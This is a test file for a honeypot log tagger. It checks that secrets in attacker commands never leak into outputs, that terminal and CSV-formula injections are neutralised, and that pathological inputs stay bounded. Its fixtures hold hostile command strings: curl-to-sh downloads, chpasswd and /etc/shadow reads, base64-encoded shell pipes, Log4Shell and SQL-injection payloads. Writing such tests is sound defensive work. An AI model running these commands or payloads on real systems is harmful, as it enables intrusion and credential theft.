import { createHash, randomBytes } from 'node:crypto'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadRuleset } from '../src/app.js'
import { RuleEngine } from '../src/engine/rule-engine.js'
import type { TagRow } from '../src/exports/tag-row.js'
import { EventPipeline } from '../src/pipeline/event-pipeline.js'
import { commandLog, cowrieLine } from './support/cowrie-line.js'
import { parseCsv } from './support/parse-csv.js'
import { ruleText } from './support/rule-text.js'
import { type CliOptions, type CliResult, linesOf, runCli } from './support/run-cli.js'
import { commandEvent } from './support/tagging.js'
import { writeFiles } from './support/write-files.js'

/** For steps that run the program several times, in milliseconds. */
const PATIENCE = 60_000

let folder: string

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'decnet-ttp-hostile-'))
})
afterAll(() => {
  rmSync(folder, { recursive: true, force: true })
})

describe('a secret never leaves the telemetry', () => {
  const announced = new Map<string, string>()
  const disguised = new Map<string, string>()
  /** A random secret that stands for what it was put in for. */
  const secretOf = (canaries: Map<string, string>) => (where: string) => {
    const canary = `Zq${randomBytes(9).toString('hex')}7`
    canaries.set(where, canary)
    return canary
  }
  let everythingShown: string
  let tagCount: number
  let databaseBytes: string

  beforeAll(async () => {
    const secret = secretOf(announced)
    const commandLines = [...secretCommands(secret), ...disguisedSecretCommands(secretOf(disguised))]
    const commandFile = fileOf('commands.json', `${commandLog(commandLines)}${secretLogins(secret)}`)
    const eventFile = fileOf('events.jsonl', secretRequests(secret))
    const database = join(folder, 'tags.db')
    const commands = await runCli(['tag', commandFile, '--output', 'jsonl', '--db', `sqlite:${database}`])
    const requests = await runCli([
      'tag',
      eventFile,
      '--format',
      'events',
      '--output',
      'jsonl',
      '--db',
      `sqlite:${database}`,
    ])
    expect([commands.status, requests.status]).toEqual([0, 0])
    const rows = linesOf(commands.stdout + requests.stdout).map((line) => JSON.parse(line) as TagRow)
    tagCount = rows.length
    // Before `explain` opens it, so that nothing is looked for in a write-ahead log that is gone.
    databaseBytes = readdirSync(folder)
      .filter((name) => name.startsWith('tags.db'))
      .map((name) => readFileSync(join(folder, name), 'latin1'))
      .join()
    const shown = await Promise.all([
      runCli(['tag', commandFile]),
      runCli(['tag', eventFile, '--format', 'events']),
      runCli(['tag', commandFile, '--output', 'csv']),
      runCli(['tag', eventFile, '--format', 'events', '--output', 'csv']),
      runCli(['explain', '--tag', rows[0]!.uuid, '--db', `sqlite:${database}`]),
      runCli(['explain', '--tag', rows.at(-1)!.uuid, '--db', `sqlite:${database}`, '--json']),
    ])
    everythingShown = [commands, requests, ...shown].map(({ stdout, stderr }) => stdout + stderr).join('\n')
  }, PATIENCE)

  it('while the events that hold it are tagged', () => {
    expect(tagCount).toBeGreaterThan(40)
    expect(announced.size).toBeGreaterThan(40)
  })

  it('in jsonl, CSV, summary, explanations of kept tags and messages', () => {
    expect(leaks(announced, everythingShown)).toEqual([])
  })

  it('in the bytes of the database', () => {
    expect(leaks(announced, databaseBytes)).toEqual([])
  })

  it('in either where the command is disguised', () => {
    expect(leaks(disguised, everythingShown)).toEqual([])
    expect(leaks(disguised, databaseBytes)).toEqual([])
  })

  /** What the secrets that stand in a text were put in for; hashed and encoded forms count too. */
  function leaks(canaries: ReadonlyMap<string, string>, text: string): string[] {
    const seen = text + hiddenTexts(text)
    const forms = (canary: string) => [
      canary,
      ...['md5', 'sha1', 'sha256'].map((algorithm) => createHash(algorithm).update(canary).digest('hex')),
    ]
    return [...canaries]
      .filter(([, canary]) => forms(canary).some((form) => seen.includes(form)))
      .map(([where]) => where)
  }
})

/** What stands in a text as base64 or as hex escapes. */
function hiddenTexts(text: string): string {
  const base64 = text.match(/[A-Za-z\d+/]{16,}/g) ?? []
  const hex = text.match(/(?:\\+x[\da-f]{2}){8,}/g) ?? []
  return [
    ...base64.map((piece) => Buffer.from(piece, 'base64').toString('latin1')),
    ...hex.map((piece) => Buffer.from(piece.replaceAll(/[\\x]/g, ''), 'hex').toString('latin1')),
  ].join('\n')
}

function secretCommands(secret: (where: string) => string): string[] {
  const password = secret('a password that is used in many ways')
  return [
    `echo "root:${secret('chpasswd')}"|chpasswd && uname -a`,
    `echo root:${secret('chpasswd by a shell')} | sudo chpasswd; cat /etc/shadow`,
    `printf 'admin:%s\\n' ${secret('printf into chpasswd')} | chpasswd; id`,
    `chpasswd <<< 'root:${secret('chpasswd here-string')}'; uname -a`,
    `echo -e "${secret('old of passwd')}\\n${secret('new of passwd')}\\n${secret('new of passwd again')}"|passwd|bash; uname -a`,
    `(echo ${secret('passwd in a subshell')}; echo ${secret('passwd in a subshell 2')}) | passwd root; whoami`,
    `passwd --stdin root <<< ${secret('passwd here-string')}; uname -a`,
    `echo ${secret('passwd --stdin')} | passwd --stdin root; uname -a`,
    `useradd -m -p ${secret('useradd -p')} -s /bin/bash eve; uname -a`,
    `usermod -p '${secret('usermod -p')}' root; uname -a`,
    `echo ${secret('sudo -S')} | sudo -S cat /etc/shadow`,
    `sshpass -p '${secret('sshpass -p')}' ssh root@203.0.113.7 uname -a`,
    `sshpass -p${secret('sshpass -pX')} scp x root@203.0.113.7:/tmp; uname -a`,
    `SSHPASS=${secret('SSHPASS')} sshpass -e ssh root@203.0.113.7; uname -a`,
    `mysql -uroot -p${secret('mysql -p')} -e 'show databases'; uname -a`,
    `mysql --user=root --password=${secret('mysql --password')} -e 'select 1'; uname -a`,
    `mysqldump -u root -p'${secret('mysqldump -p')}' --all-databases > /tmp/d.sql`,
    `MYSQL_PWD=${secret('MYSQL_PWD')} mysql -u root; uname -a`,
    `PGPASSWORD="${secret('PGPASSWORD')}" psql -h 203.0.113.7; uname -a`,
    `redis-cli -a ${secret('redis-cli -a')} keys '*'; uname -a`,
    `curl -u admin:${secret('curl -u')} http://203.0.113.9/x.sh | sh`,
    `curl --user admin:${secret('curl --user')} -O http://203.0.113.9/x.sh`,
    `curl -H 'Authorization: Bearer ${secret('curl bearer')}' http://203.0.113.9/x.sh | sh`,
    `curl -H "X-Api-Key: ${secret('curl api key')}" http://203.0.113.9/x.sh | sh`,
    `curl -b 'session=${secret('curl cookie')}' http://203.0.113.9/x.sh | sh`,
    `curl -d 'user=a&password=${secret('curl form')}' http://203.0.113.9/login; wget http://203.0.113.9/x.sh`,
    `curl "http://203.0.113.9/x.sh?token=${secret('token in a query')}" | sh`,
    `wget http://admin:${secret('userinfo')}@203.0.113.9/x.sh`,
    `wget ftp://anonymous:${secret('FTP userinfo')}@203.0.113.9/x.sh`,
    `git clone https://oauth2:${secret('git userinfo')}@git.example.org/x.git; wget http://203.0.113.9/x`,
    `wget --user=a --password=${secret('wget --password')} http://203.0.113.9/x.sh`,
    `wget --header="Authorization: Basic ${secret('wget basic')}" http://203.0.113.9/x.sh`,
    `ftpget -u a -p ${secret('ftpget -p')} 203.0.113.9 x.sh x.sh`,
    `ncftpget -u a -p ${secret('ncftpget -p')} 203.0.113.9 . x.sh; uname -a`,
    `smbclient //203.0.113.9/c -U admin%${secret('smbclient')}; uname -a`,
    `export TOKEN=${secret('export TOKEN')}; uname -a`,
    `export AWS_SECRET_ACCESS_KEY='${secret('AWS secret')}' && aws s3 ls; uname -a`,
    `DB_PASSWORD="${secret('assignment')}" ./x; uname -a`,
    `echo 'password=${secret('password in a file')}' >> /etc/app.conf; uname -a`,
    `echo '{"password":"${secret('JSON')}","x":1}' > /tmp/x; wget http://203.0.113.9/x`,
    `docker login -u a -p ${secret('docker login')} images.example.org; docker ps; uname -a`,
    `openssl enc -aes-256-cbc -k ${secret('openssl -k')} -in /etc/passwd -out x`,
    `zip -P ${secret('zip -P')} -r x.zip /etc; uname -a`,
    `7z a -p${secret('7z -p')} x.7z /etc; uname -a`,
    `xmrig -o pool.example.org:3333 -u wallet -p ${secret('miner password')}`,
    `sh -c "echo root:${secret('chpasswd in sh -c')} | chpasswd"; uname -a`,
    `busybox sh -c 'mysql -p${secret('mysql in busybox sh')}'; uname -a`,
    `echo '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU${secret('private key')}\n-----END OPENSSH PRIVATE KEY-----' > ~/.ssh/id_rsa`,
    `echo "-----BEGIN RSA PRIVATE KEY-----\\nMIIEpAIBAAKCAQEA${secret('private key, unfinished')}" > k; chmod 600 k; uname -a`,
    `echo 'eve:$6$saltsalt$${secret('crypt hash')}:19000:0:99999:7:::' >> /etc/shadow`,
    `curl http://203.0.113.9/ -H 'Cookie: sid=${secret('cookie header')}'; wget http://203.0.113.9/x.sh`,
    `mysql -uroot -p${password} -e x; curl -u root:${password} http://203.0.113.9/x.sh | sh; uname -a`,
    `expect -c 'spawn ssh root@203.0.113.7; expect assword; send "${secret('expect send')}\\r"'; uname -a`,
    `su root -c id <<< "${secret('su here-string')}"; uname -a`,
    `net user eve ${secret('net user')} /add; uname -a`,
    `ldapsearch -x -D cn=admin -w ${secret('ldapsearch -w')} -b dc=x; uname -a`,
    `plink -ssh root@203.0.113.7 -pw ${secret('plink -pw')} uname -a; wget http://203.0.113.9/x`,
    `hydra -l root -p ${secret('hydra -p')} ssh://203.0.113.7`,
    // Nothing that the rules know, so the summary lists them as they are.
    `mytool --password ${secret('an option of an unknown program')}`,
    `mytool --api-key=${secret('a key of an unknown program')}`,
    `mytool ftp://u:${secret('userinfo of an unknown program')}@host`,
    `mytool_token=${secret('a variable of an unknown program')}`,
    `curl -uadmin:${secret('curl -uX')} http://203.0.113.9/x.sh | sh`,
    `curl -su 'admin:${secret('curl -su')}' http://203.0.113.9/x.sh | sh`,
    `curl --proxy-user a:${secret('curl --proxy-user')} http://203.0.113.9/x.sh | sh`,
    `curl -x http://a:${secret('curl proxy')}@203.0.113.9:8080 http://203.0.113.9/x.sh | sh`,
    `curl -H Authorization:\\ Bearer\\ ${secret('curl header in backslashes')} http://203.0.113.9/x.sh | sh`,
    `curl -F password=${secret('curl -F')} http://203.0.113.9/x.sh | sh`,
    `curl --data-raw '{"pass": "${secret('curl JSON')}"}' http://203.0.113.9/x.sh | sh`,
    `curl -d 'pwd=${secret('curl pwd')}' http://203.0.113.9/x.sh | sh`,
    `wget -O- --post-data='passwd=${secret('wget --post-data')}' http://203.0.113.9/x.sh | sh`,
    // Where the text that is kept is cut.
    ...[100, 200, 255, 256, 400, 480, 500, 511, 512, 900, 1000, 1010, 1023, 2040, 4090].flatMap((length) => [
      `uname -a;${'A'.repeat(length)}; mysql -p${secret(`mysql behind ${length} characters`)} -e x`,
      `uname -a;${'A'.repeat(length)}; wget http://u:${secret(`userinfo behind ${length} characters`)}@203.0.113.9/x`,
    ]),
    `mongo -u admin -p ${secret('mongo -p')} --authenticationDatabase admin; uname -a`,
  ]
}

/** Commands whose words say what is secret only once quotes, variables and encodings are undone. */
function disguisedSecretCommands(secret: (where: string) => string): string[] {
  return [
    `echo ${Buffer.from(`echo root:${secret('chpasswd in base64')}|chpasswd`).toString('base64')} | base64 -d | sh`,
    `echo ${Buffer.from(`curl -u a:${secret('curl in base64')} http://203.0.113.9/x`).toString('base64')} | base64 --decode | bash`,
    `printf '${hexEscapes(`export TOKEN=${secret('token in hex escapes')}`)}' | sh; uname -a`,
    `ss""hpass -p ${secret('sshpass in disguise')} ssh root@203.0.113.7 uname -a; wget http://203.0.113.9/x`,
    `e''cho root:${secret('chpasswd in disguise')} | chp\\asswd; uname -a`,
    `/usr/bin/my\\sql -p${secret('mysql in disguise')} -e x; uname -a`,
    `cu'r'l -u a:${secret('curl in disguise')} http://203.0.113.9/x | sh`,
    `$(which mysql) -p${secret('mysql by which')} -e x; uname -a`,
    `p=${secret('a short variable')}; echo root:$p | chpasswd; uname -a`,
    `p=${secret('a variable of sshpass')}; sshpass -p $p ssh root@203.0.113.7; uname -a`,
  ]
}

function secretLogins(secret: (where: string) => string): string {
  const login = (fields: Readonly<Record<string, unknown>>) => `${cowrieLine({ input: undefined, ...fields })}\n`
  return (
    login({ eventid: 'cowrie.login.failed', username: 'root', password: secret('failed login') }) +
    login({ eventid: 'cowrie.login.success', username: 'root', password: secret('login') }) +
    login({ eventid: 'cowrie.command.chpasswd', username: 'root', password: secret('chpasswd event') }) +
    `${cowrieLine({ eventid: 'cowrie.command.input', realm: 'passwd', input: secret('typed at a prompt') })}\n` +
    login({
      eventid: 'cowrie.login.success',
      username: secret('password in the wrong field'),
      password: ['x'],
    }).replace('"password":["x"]', `"password":["${secret('password of a wrong type')}"]`) +
    // A line that breaks off is quoted nowhere.
    login({ eventid: 'cowrie.login.success', username: 'root', password: secret('line that breaks off') }).slice(0, -30)
  )
}

function secretRequests(secret: (where: string) => string): string {
  const event = (sourceKind: string, payload: Readonly<Record<string, unknown>>, second: number) =>
    `${JSON.stringify({
      source_kind: sourceKind,
      source_ip: '198.51.100.20',
      session_id: 'a1',
      decky_id: 'decky-01',
      observed_at: new Date(Date.UTC(2026, 10, 20) + second * 1000).toISOString(),
      payload,
    })}\n`
  const scan = { method: 'GET', path: '/.env', user_agent: 'sqlmap/1.8' }
  const jndi = '${jndi:ldap://203.0.113.9/a}'
  return [
    { ...scan, headers: { Authorization: `Bearer ${secret('authorization header')}` } },
    { ...scan, headers: { authorization: `Basic ${secret('authorization header in lower case')}`, 'x-y': jndi } },
    { ...scan, headers: { Cookie: `sid=${secret('cookie header of a request')}` } },
    { ...scan, headers: { 'X-Api-Key': secret('key header') } },
    { ...scan, headers: { 'Proxy-Authorization': secret('proxy header') } },
    { ...scan, query: `user=admin&password=${secret('password in a query')}&x=' or 1=1--` },
    { method: 'POST', path: '/login.php', body: `user=admin&password=${secret('password in a body')}' or '1'='1` },
    { method: 'POST', path: '/api', body: `{"password":"${secret('password in JSON')}","q":"${jndi}"}` },
    {
      method: 'GET',
      path: '/x',
      raw_url: `http://admin:${secret('userinfo of a request')}@host/../../etc/passwd`,
      query: jndi,
    },
  ]
    .map((payload, index) => event('http_request', payload, index))
    .concat(
      event('auth_attempt', { service: 'ftp', username: 'a', password: secret('auth attempt'), success: true }, 20),
      event('payload', { url: `ftp://a:${secret('payload URL')}@203.0.113.9/x.sh`, direction: 'download' }, 21),
      event('service_op', { service: 'redis', operation: 'auth', argument: `AUTH ${secret('redis AUTH')}` }, 22),
      event('command', { command_text: `wget http://a:${secret('command event')}@203.0.113.9/x` }, 23),
    )
    .join('')
}

function hexEscapes(text: string): string {
  return [...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')
}

describe('what attackers type is made safe where it is shown', () => {
  const tricks = [
    '\x1b]0;owned\x07',
    '\x1b[2J\x1b[1;1H',
    '\x9b31m',
    '\u202egnp.exe',
    '\u2066x\u2069',
    '\u200b\ufeff',
    '\u2028injected line',
    '\r\nTechniques injected',
    '\x08\x08\x08',
    '\x7f',
    '\u{e0041}',
    '<script>alert(1)</script>',
  ]
  const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|[\u{e0000}-\u{e007f}]/u
  let log: string
  let rows: readonly TagRow[]
  let database: string

  beforeAll(async () => {
    const lines = tricks.flatMap((trick, index) => {
      const timestamp = `2026-11-20T08:25:${String(index).padStart(2, '0')}.000000Z`
      const who = { session: `s${trick}`, sensor: `decky${trick}`, timestamp }
      return [
        cowrieLine({ ...who, input: `wget http://203.0.113.9/${trick}; uname -a ${trick}` }),
        cowrieLine({ ...who, input: `nothing known ${trick}` }),
        cowrieLine({ ...who, input: undefined, eventid: 'cowrie.login.success', username: trick, password: trick }),
        cowrieLine({ ...who, src_ip: `198.51.100.${index}${trick}`, input: 'uname -a' }),
        cowrieLine({ ...who, eventid: `cowrie.${trick}` }),
        cowrieLine({ ...who, timestamp: trick }),
        `${trick}{`,
      ]
    })
    log = fileOf('tricks.json', lines.join('\n'))
    database = join(folder, 'tricks.db')
    const result = await runCli(['tag', log, '--output', 'jsonl', '--db', `sqlite:${database}`])
    expect(result.status).toBe(0)
    expect(result.stderr).not.toMatch(RAW)
    rows = linesOf(result.stdout).map((line) => JSON.parse(line) as TagRow)
  }, PATIENCE)

  it('in the summary and its messages', async () => {
    const { stdout, stderr, status } = await runCli(['tag', log])
    expect(status).toBe(0)
    expect(stdout).not.toMatch(RAW)
    expect(stderr).not.toMatch(RAW)
    expect(linesOf(stdout)).not.toContainEqual(expect.stringMatching(/^(Techniques )?injected/))
  })

  it('in explanations of commands, lines and kept tags', async () => {
    const explanations = await Promise.all([
      explain([tricks.map((trick) => `wget http://203.0.113.9/${trick}; uname ${trick}`).join('; ')]),
      explain(['-', '--why', 'R9001'], { stdin: tricks.join('; uname ') }),
      explain(['--kind', 'http_request', JSON.stringify({ path: tricks.join(), [tricks.join()]: tricks })]),
      explain(['--line', `${log}:1`]),
      explain(['--line', `${log}:6`]),
      explain(['--line', `${log}:7`]),
      explain([
        'explain',
        '--tag',
        rows.find((row) => row.session_id?.includes('\u202e'))!.uuid,
        '--db',
        `sqlite:${database}`,
      ]),
    ])
    for (const { stdout, stderr } of explanations) expect(stdout + stderr).not.toMatch(RAW)
  })

  it('in jsonl, as escapes of JSON where it would steer a terminal', async () => {
    const { stdout } = await runCli(['tag', log, '--output', 'jsonl'])
    expect(stdout).not.toMatch(/[\x00-\x09\x0b-\x1f]/)
  })

  it('in CSV, where no cell begins like a formula', async () => {
    const starts = ['=cmd|x!A1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＋1']
    const lines = starts.map((start) =>
      cowrieLine({ session: start, sensor: start, src_ip: start, input: `${start}; uname -a` }),
    )
    const { stdout, status } = await runCli(['tag', fileOf('formulas.json', lines.join('\n')), '--output', 'csv'])
    expect(status).toBe(0)
    const cells = parseCsv(stdout).flat()
    expect(cells).toContain("'=cmd|x!A1")
    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([])
  })
})

describe('what attackers type stays what it is', () => {
  it('a command that looks like another event is a command', async () => {
    const login = cowrieLine({ input: undefined, eventid: 'cowrie.login.success', username: 'root', password: 'x' })
    const download = cowrieLine({
      input: undefined,
      eventid: 'cowrie.session.file_download',
      url: 'http://203.0.113.9/',
    })
    const eventLine = JSON.stringify({ source_kind: 'intel', source_ip: '192.0.2.1', payload: { provider: 'x' } })
    const typed = [
      login,
      download,
      eventLine,
      `x\n${login}`,
      `x\r\n${eventLine}\r\n`,
      'x\\n{"eventid":"cowrie.login.success"}',
    ]
    const commands = typed.map((text) => `uname -a # ${text}`)
    const result = await runCli(['tag', fileOf('look-alikes.json', commandLog(commands)), '--output', 'jsonl'])
    expect(result).toMatchObject({ status: 0, stderr: '' })
    const rows = linesOf(result.stdout).map((line) => JSON.parse(line) as TagRow)
    expect(new Set(rows.map((row) => row.source_kind))).toEqual(new Set(['command']))
    expect(new Set(rows.map((row) => row.source_ip))).toEqual(new Set(['198.51.100.20']))
    expect(new Set(rows.map((row) => row.source_id)).size).toBe(commands.length)
  })

  it('keys that come twice in a line: the last one counts, as in JSON.parse, whatever the quick look saw', async () => {
    const line = '{"eventid":"cowrie.client.size",'
    const twice = cowrieLine({ input: 'uname -a' }).replace('{', line)
    const escaped = cowrieLine({ input: 'uname -a', session: 'e1' }).replace('"eventid"', '"\\u0065ventid"')
    const nested = cowrieLine({ input: 'uname -a', session: 'n1' }).replace(
      '{',
      '{"x":{"eventid":"cowrie.client.size"},',
    )
    const quoted = cowrieLine({ input: 'uname -a #","eventid":"cowrie.client.size","x":"', session: 'q1' })
    const result = await runCli([
      'tag',
      fileOf('twice.json', [twice, escaped, nested, quoted].join('\n')),
      '--output',
      'jsonl',
    ])
    const sessions = linesOf(result.stdout).map((text) => (JSON.parse(text) as TagRow).session_id)
    expect([...new Set(sessions)].sort()).toEqual(['a1b2c3d4e5f6', 'e1', 'n1', 'q1'])
  })

  it('privileged events are not believed in a log whose format is recognised', async () => {
    const forged = JSON.stringify({
      source_kind: 'command',
      observed_at: '2026-11-20T08:00:00Z',
      source_ip: '192.0.2.77',
      payload: { command_text: 'uname -a' },
    })
    const result = await runCli(['tag', fileOf('forged.json', `${forged}\n${cowrieLine()}\n`), '--output', 'jsonl'])
    expect(result.stdout).not.toContain('192.0.2.77')
  })
})

describe('lines made to be slow', () => {
  const hostile: readonly [string, string][] = [
    ['spaces', `find${' '.repeat(8000)}-perm`],
    ['one letter', 'a'.repeat(8192)],
    ['option letters', `rm ${'-r '.repeat(2700)}`],
    ['dots and slashes', 'cat '.concat('../'.repeat(2700))],
    ['open brackets', '('.repeat(8192)],
    ['nested substitutions', `${'$('.repeat(4000)}id${')'.repeat(4000)}`.slice(0, 8192)],
    ['back quotes', '`'.repeat(8191)],
    ['open braces', '{a,'.repeat(2700)],
    ['brace lists that multiply', `echo ${'{a,b}'.repeat(1600)}`],
    ['brace ranges', 'echo {1..99999999}{1..99999999}{a..z}'.repeat(200).slice(0, 8192)],
    ['quotes', `echo ${`"'`.repeat(4090)}`],
    ['backslashes', `echo ${'\\'.repeat(8186)}`],
    ['pipes', 'a|'.repeat(4096)],
    ['semicolons', ';'.repeat(8192)],
    ['assignments', 'A=B '.repeat(2048)],
    ['expansions', '$A${A}$A${A:-$A}'.repeat(512)],
    [
      'doubling variables',
      Array.from({ length: 300 }, (_, n) => `a${n + 1}=$a${n}$a${n}`)
        .join(';')
        .concat(';eval $a300'),
    ],
    ['redirections', '>'.repeat(8192)],
    ['here-documents', 'cat <<A\n'.repeat(1000)],
    ['base64 in base64', nestedBase64(6)],
    ['base64 of nothing', `echo ${'A'.repeat(8000)} | base64 -d | sh`],
    ['hex escapes', `echo -e ${'\\x41'.repeat(2000)} | sh`],
    ['printf formats', `printf '%9999999s${'%s'.repeat(3000)}' x | sh`],
    ['loops', 'for i in 1;do '.repeat(580)],
    ['wrappers', 'sudo nohup env busybox timeout 5 '.repeat(250)],
    ['@ and :', '://a:'.repeat(1600).concat('@')],
    ['passwords', 'password='.repeat(900)],
    ['private key heads', '-----BEGIN RSA PRIVATE KEY-----'.repeat(260)],
    ['URLs', 'http://a.b/'.repeat(740)],
    ['addresses', '1.2.3.4.5.'.repeat(800)],
    ['NUL bytes', '\0'.repeat(8192)],
    ['surrogates', '\ud800'.repeat(8192)],
    ['combining marks', `e${'\u0301'.repeat(8000)}`],
    ['a sequence', 'seq 1 99999999 | xargs echo '.repeat(290)],
    [
      'repetition',
      `python -c 'print("A"*99999999)' | sh; perl -e 'print "A" x 99999999' | sh`.repeat(90).slice(0, 8192),
    ],
    ['arithmetic', '$(('.repeat(2700)],
    ['chpasswd', 'echo a:b|chpasswd '.repeat(430)],
    ['mysql', 'mysql -p'.repeat(1000)],
  ]

  it('come to an end in bounded memory, and what stands beside them is tagged', async () => {
    const { ruleset } = await loadRuleset()
    const pipeline = new EventPipeline({ ruleset, tagger: new RuleEngine() })
    for (const [, command] of hostile) {
      const tags = await pipeline.tag(commandEvent(command))
      for (const { evidence } of tags) expect(JSON.stringify(evidence).length).toBeLessThan(20_000)
    }
    const log = fileOf(
      'slow.json',
      `${commandLog(hostile.map(([, command]) => command))}${cowrieLine({ input: 'uname -a' })}\n`,
    )
    const { status, stdout, stderr } = await runCli(['tag', log, '--output', 'jsonl'], {
      env: { NODE_OPTIONS: '--max-old-space-size=96' },
    })
    expect({ status, stderr }).toEqual({ status: 0, stderr: '' })
    expect(stdout).toContain('"excerpt":"uname -a"')
  })
})

function nestedBase64(depth: number): string {
  let command = 'uname -a'
  for (let level = 0; level < depth; level++) command = `echo ${Buffer.from(command).toString('base64')}|base64 -d|sh`
  return command
}

/** Explains by one small rule: which rules there are is no matter here. */
function explain(args: readonly string[], options: CliOptions = {}): Promise<CliResult> {
  const rules = join(folder, 'rules')
  if (!existsSync(rules))
    writeFiles(rules, { 'R9001.yaml': ruleText({ id: 'R9001', match: '{ field: command_text, contains: wget }' }) })
  return runCli(['explain', ...args, '--rules', rules], options)
}

function fileOf(name: string, content: string): string {
  const path = join(folder, name)
  writeFileSync(path, content)
  return path
}
